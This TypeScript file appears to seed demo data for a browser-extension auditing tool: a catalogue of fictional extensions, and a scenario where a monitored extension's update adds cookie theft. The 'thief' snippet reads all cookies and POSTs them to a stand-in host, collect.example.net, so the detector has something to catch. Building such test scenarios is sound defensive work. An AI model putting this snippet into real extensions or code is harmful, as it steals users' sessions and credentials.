import { makeTestExtension } from '../../server/src/testing/test-extension.ts';
import type { Send } from './demo-pages.ts';

// What the demo's developer tools lack: extensions of a store with publishers and reviews, risky clusters, and an update that
// takes more than the version before.

const publishers = ['Northwind Tools', 'Bluebird Labs', 'Tab Works', 'Quick Extensions Ltd'];
const kinds = ['Reader', 'Coupons', 'Screenshots', 'Translator', 'Tab groups', 'New tab'];
const permissionSets = [
  ['storage'],
  ['tabs', 'storage', 'scripting'],
  ['cookies', 'tabs', 'webRequest', 'storage'],
  ['history', 'downloads', 'management', 'tabs'],
  ['debugger', 'proxy', 'tabs'],
];
const reviews = [
  [5, 'Does what it says.'],
  [1, 'After the last update my searches go to another site. Looks like malware.'],
  [4, 'Fine, but asks for much.'],
] as const;

/** @returns JSON Lines for `extaudit import`: metadata, reviews and manifests, no packages */
export function demoCatalogue(): string {
  return Array.from({ length: 24 }, (_, index) => `${JSON.stringify(entry(index))}\n`).join('');
}

function entry(index: number): object {
  const kind = kinds[index % kinds.length] ?? '';
  const author = publishers[index % publishers.length] ?? '';
  const version = `${1 + (index % 4)}.${index % 7}`;
  const name = `${author.split(' ')[0]} ${kind}${index < 12 ? '' : ' Pro'}`;
  const publisher_id = author.toLowerCase().replaceAll(' ', '-');
  return {
    extension_id: String.fromCodePoint(97 + (index % 16)).repeat(31) + (index < 16 ? 'a' : 'b'),
    name,
    description: `${kind} for every day.`,
    version,
    status: index % 11 === 0 ? 'obsolete' : 'active',
    user_count: (index * 791_919) % 3_000_000,
    rating_value: 2 + (index % 30) / 10,
    rating_count: index * 137,
    category: 'productivity',
    last_update: new Date(Date.UTC(2026, index % 10, 1 + index)).toISOString(),
    publisher_id,
    extension_publishers: { publisher_id, author },
    reviews: reviews.slice(index % 3).map(([rating, review_text], review) => ({
      reviewer_name: `Reviewer ${index}.${review}`,
      rating,
      review_date: '2026-10-02',
      review_text,
    })),
    manifests: {
      [version]: {
        manifest_version: 3,
        name,
        version,
        permissions: permissionSets[index % permissionSets.length],
        host_permissions: index % 2 === 0 ? ['<all_urls>'] : ['https://www.example.com/*'],
      },
    },
  };
}

const harmless = `chrome.tabs.query({}, (tabs) => chrome.storage.local.set({ count: tabs.length }));`;
const thief = `chrome.cookies.getAll({}, (cookies) => {
  fetch('https://collect.example.net/in', { method: 'POST', body: JSON.stringify(cookies) });
});`;

/** One extension that is watched, and updated to one that sends all cookies away. */
export async function updateToTheft(send: Send): Promise<void> {
  const extension = makeTestExtension('Page Saver');
  const { id } = extension;
  const { result } = await send('GET', '/api/v1/extensions?search=Page%20Saver');
  if (result.length > 0) return;
  const upload = async (version: string, permissions: readonly string[], code: string) => {
    const manifest = { permissions, host_permissions: ['<all_urls>'] };
    const packed = extension.pack(
      version,
      { ...manifest, background: { service_worker: 'worker.js' } },
      { 'worker.js': code },
    );
    const body = new FormData();
    body.set('file', new File([packed as BlobPart], 'page-saver.crx'));
    await send('POST', '/api/v1/extensions', body);
    const path = `/api/v1/extensions/${id}/versions/${version}/analysis`;
    await send('POST', path, { extensionId: id, version });
    while ((await send('GET', path)).data['status'] !== 'completed') {
      await new Promise((resolve) => setTimeout(resolve, 500));
    }
  };
  await upload('1.4', ['storage', 'tabs'], harmless);
  const { data } = await send('POST', '/api/v1/monitors', { extension_id: id });
  await upload('1.5', ['storage', 'tabs', 'cookies'], `${harmless}\n${thief}`);
  const monitor = data['monitor'] as { readonly id: string };
  await send('POST', `/api/v1/monitors/${monitor.id}/webhooks`, {
    url: 'https://hooks.example.org/page-saver',
  });
  await send('POST', `/api/v1/monitors/${monitor.id}/detect-changes`);
}
